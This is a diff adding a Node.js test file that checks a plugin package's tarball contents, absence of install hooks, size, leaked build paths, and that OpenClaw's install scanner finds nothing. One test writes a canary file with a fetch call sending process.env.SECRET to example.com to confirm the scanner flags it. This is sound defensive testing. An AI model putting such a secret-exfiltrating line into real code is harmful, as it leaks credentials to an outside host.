@@ -1,0 +1,98 @@
+import assert from "node:assert/strict";
+import { execFileSync } from "node:child_process";
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
+import { homedir, tmpdir } from "node:os";
+import { dirname, join, relative } from "node:path";
+import { after, describe, test } from "node:test";
+import { fileURLToPath, pathToFileURL } from "node:url";
+import { openclaw } from "../../scripts/lib/openclaw.mjs";
+import { skip, tgz, versions } from "./options.mjs";
+
+const PROJECT = fileURLToPath(new URL("../..", import.meta.url));
+const KB = 1024;
+
+describe("the package", { skip }, () => {
+  const folder = mkdtempSync(join(tmpdir(), "agentwatch-package-"));
+  after(() => rmSync(folder, { recursive: true, force: true }));
+  if (tgz) execFileSync("tar", ["-xzf", tgz, "-C", folder]);
+  const root = join(folder, "package");
+  const files = tgz ? filesIn(root) : [];
+  const size = (/** @type {string} */ file) => statSync(join(root, file)).size;
+
+  test("holds what is to be shipped, and nothing else", () => {
+    const shim = readdirSync(join(PROJECT, "js-shim", "src")).filter((file) => /(?<!\.d)\.ts$/.test(file));
+    const dist = ["core.js", "core.wasm", ...shim.map((file) => file.replace(/ts$/, "js"))];
+    const beside = ["LICENSE", "README.md", "openclaw.plugin.json", "package.json"];
+    assert.deepEqual(files, [...beside, ...dist.map((file) => `dist/${file}`)].sort());
+  });
+
+  test("needs no other package and runs nothing when installed", () => {
+    const manifest = JSON.parse(readFileSync(join(root, "package.json"), "utf8"));
+    for (const field of ["dependencies", "peerDependencies", "optionalDependencies", "bundleDependencies"])
+      assert.equal(manifest[field], undefined, field);
+    for (const script of ["preinstall", "install", "postinstall", "prepare"])
+      assert.equal(manifest.scripts?.[script], undefined, script);
+    for (const entry of [...manifest.openclaw.extensions, ...Object.values(manifest.bin ?? {})])
+      assert.ok(files.includes(entry.replace("./", "")), `${entry} is in the package`);
+  });
+
+  test("is small", (t) => {
+    const all = files.reduce((sum, file) => sum + size(file), 0);
+    t.diagnostic(
+      `module ${size("dist/core.wasm")} bytes, unpacked ${all}, packed ${statSync(tgz ?? "").size}`,
+    );
+    assert.ok(size("dist/core.wasm") <= 250 * KB);
+    assert.ok(all <= 500 * KB);
+  });
+
+  test("names no folder of the machine that built it", () => {
+    const homes = [PROJECT.replace(/\/$/, ""), homedir(), process.env.CARGO_HOME, ".cargo/registry"];
+    for (const file of files) {
+      const text = readFileSync(join(root, file), "latin1");
+      // A home folder as short as "/root" may be part of a longer word.
+      const found = homes.filter((path) => path && text.includes(path.startsWith("/") ? `${path}/` : path));
+      assert.deepEqual(found, [], file);
+    }
+  });
+
+  for (const version of versions) {
+    test(`the install scanner of OpenClaw ${version} finds nothing in it`, async () => {
+      const scan = await scanner(version);
+      const bad = join(folder, `bad-${version}`);
+      mkdirSync(bad);
+      writeFileSync(join(bad, "index.js"), "fetch(`https://example.com/${process.env.SECRET}`);\n");
+      assert.ok((await scan(bad)).critical > 0, "the scanner works");
+      const { critical, warn, scannedFiles, findings } = await scan(root);
+      assert.equal(scannedFiles, files.filter((file) => file.endsWith(".js")).length, "it read every script");
+      assert.deepEqual([critical, warn], [0, 0], JSON.stringify(findings, null, 1));
+    });
+  }
+});
+
+/** @param {string} root @returns {string[]} Paths below it, sorted. */
+function filesIn(root) {
+  const entries = readdirSync(root, { recursive: true, withFileTypes: true });
+  return entries
+    .filter((entry) => entry.isFile())
+    .map((entry) => relative(root, join(entry.parentPath, entry.name)))
+    .sort();
+}
+
+/**
+ * The scanner that `openclaw plugins install` runs. It is in a file whose name changes, under a name that the bundler
+ * made up.
+ *
+ * @param {string} version
+ * @returns {Promise<(folder: string) => Promise<{ scannedFiles: number, critical: number, warn: number, findings: object[] }>>}
+ */
+async function scanner(version) {
+  const dist = join(dirname(await openclaw(version)), "dist");
+  for (const file of readdirSync(dist).filter((name) => /^(skill-)?scanner-.*\.m?js$/.test(name))) {
+    const alias = /export \{[^}]*\bscanDirectoryWithSummary(?: as (\w+))?/.exec(
+      readFileSync(join(dist, file), "utf8"),
+    );
+    if (alias)
+      return (await import(pathToFileURL(join(dist, file)).href))[alias[1] ?? "scanDirectoryWithSummary"];
+  }
+  throw new Error(`OpenClaw ${version} has no scanner where it was`);
+}
